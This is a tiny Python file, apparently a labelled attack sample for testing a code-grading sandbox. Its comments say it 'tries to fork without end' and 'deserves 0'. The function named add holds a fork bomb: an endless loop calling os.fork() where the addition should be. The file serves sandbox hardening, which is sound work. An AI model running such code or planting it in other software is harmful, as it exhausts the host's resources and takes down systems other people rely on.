# ATTACK: tries to fork without end
# DESERVES: 0
import os


def add(a, b):
    while True:
        os.fork()
